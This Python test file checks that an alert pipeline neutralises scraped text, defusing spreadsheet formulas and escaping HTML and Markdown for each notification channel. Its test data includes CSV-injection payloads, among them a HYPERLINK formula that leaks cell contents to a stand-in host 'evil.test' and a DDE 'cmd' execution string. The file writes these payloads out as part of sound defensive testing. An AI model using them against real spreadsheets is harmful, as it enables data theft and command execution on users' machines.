"""Scraped text in alerts is inert for every channel format (pipelines/alerts/escaping.py): a
formula-like sku reaches no title raw, and markup in a title reaches an HTML or Markdown channel
as characters; Apprise's own conversion of the body is relied on, and checked here too."""

from __future__ import annotations

import json

import apprise
import pytest

import pipelines.alerts as al
from pipelines.alerts.escaping import (
    HTML,
    MARKDOWN,
    TEXT,
    channel_format,
    escape_markdown,
    for_channel,
    inert_row,
)
from tests.helpers.alert_histories import channels, load, obs, outbox, rules
from tests.helpers.hostile_cells import FORMULA_SKUS


@pytest.mark.parametrize(("value", "shown"), [
    ('=HYPERLINK("http://evil.test/?leak="&A1,"GT4")',
     '\'=HYPERLINK("http://evil.test/?leak="&A1,"GT4")'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("\t=1", "'\t=1"),
    ("\uff1d1+1", "'\uff1d1+1"),
    ("-2.5", "-2.5"),                  # a plain negative number is no formula
    ("A100-80GB", "A100-80GB"), ("'=already", "'=already"), ("", ""),
])
def test_a_formula_like_text_gets_a_leading_apostrophe(value, shown):
    assert inert_row({"sku": value})["sku"] == shown


def test_only_text_values_change_and_the_row_is_not_touched():
    row = {"sku": "=1+1", "price": 5.0, "count": 8, "when": None}
    assert inert_row(row) == {"sku": "'=1+1", "price": 5.0, "count": 8, "when": None}
    assert row["sku"] == "=1+1"


@pytest.mark.parametrize("sku", FORMULA_SKUS)
def test_a_formula_like_sku_reaches_no_new_low_title_raw(con, sku):
    """Issue 30: a formula-like sku reached a new_low alert's title as it was."""
    r = rules(drop={"enabled": False}, new_low={"min_improvement_pct": 1})
    load(con, [obs(100, day=0)])
    al.detect_alerts(con, r)
    load(con, [obs(100, day=1), obs(90, day=1, sku=sku)])
    al.detect_alerts(con, r)
    [alert] = outbox(con, "new_low")
    shown = alert["title"].split("sku ", 1)[1]
    assert shown.startswith("'"), alert["title"]       # the value, then the rest of the title
    assert json.loads(alert["payload"])["sku"] == sku   # the payload keeps the data as scraped


MARKUP_TITLE = "Drop: <b>A100</b> *sale* [click](http://evil.test) #1 _x_ `code`"


def plugin(url: str):
    return apprise.Apprise.instantiate(url, suppress_exceptions=False)


@pytest.mark.parametrize(("url", "fmt"), [
    ("json://127.0.0.1/hook", TEXT), ("ntfy://127.0.0.1/topic", TEXT),
    ("slack://T1000000/B1000000/abcdefghijklmnopqrstuvwx", MARKDOWN),
    ("mailto://user:pass@example.test", HTML), ("discord://1234/abcd", MARKDOWN),
    ("dingtalk://abcdefghijk", MARKDOWN), ("xml://127.0.0.1/hook", TEXT),
])
def test_each_channel_is_known_by_its_format(url, fmt):
    assert channel_format(plugin(url)) == fmt


@pytest.mark.parametrize(("url", "expected"), [
    ("json://127.0.0.1/hook", MARKUP_TITLE),                       # plain text: as it is
    ("slack://T1000000/B1000000/abcdefghijklmnopqrstuvwx", escape_markdown(MARKUP_TITLE)),
    ("mailto://user:pass@example.test",
     "Drop: &lt;b&gt;A100&lt;/b&gt; *sale* [click](http://evil.test) #1 _x_ `code`"),
    # the title is blended into the body, which Apprise converts itself: left to it
    ("tgram://123456789:abcdefg_hijklmnop/12315544", MARKUP_TITLE),
])
def test_a_title_is_escaped_for_the_channel_that_shows_it_apart(url, expected):
    assert for_channel(plugin(url), MARKUP_TITLE) == expected


def test_markdown_escaping_renders_the_same_characters():
    from markdown import markdown

    rendered = markdown(escape_markdown(MARKUP_TITLE))
    assert "<b>" not in rendered and "<em>" not in rendered and "<a " not in rendered
    assert "*sale*" in rendered and "[click](http://evil.test)" in rendered


def test_a_plain_text_webhook_gets_the_title_and_body_as_text(con, receiver):
    """End to end through a json:// channel: the formula made inert, controls as escapes, the
    markup as characters (a text channel renders nothing)."""
    r = rules(drop={"enabled": False}, new_low={"min_improvement_pct": 1})
    load(con, [obs(100, day=0)])
    al.detect_alerts(con, r)
    load(con, [obs(100, day=1), obs(90, day=1, sku="=HYPERLINK(\"http://x\")\x1b[2J<b>")])
    al.detect_alerts(con, r)
    assert al.deliver_pending(con, channels(receiver.url), r.delivery).delivered == 1
    [post] = receiver.posts
    assert "sku '=HYPERLINK(\"http://x\")\\x1b[2J<b>" in post["json"]["title"]
    assert "\x1b" not in post["json"]["title"] + post["json"]["message"]


def test_apprise_escapes_a_plain_text_body_for_an_html_channel():
    """What for_channel leaves to Apprise: the body, converted from plain text."""
    from apprise.conversion import convert_between

    body = convert_between(apprise.NotifyFormat.TEXT, apprise.NotifyFormat.HTML, "<b>x</b>")
    assert "<b>" not in body and "&lt;b&gt;" in body
    body = convert_between(apprise.NotifyFormat.TEXT, apprise.NotifyFormat.MARKDOWN, "*x*")
    assert body == "\\*x\\*"
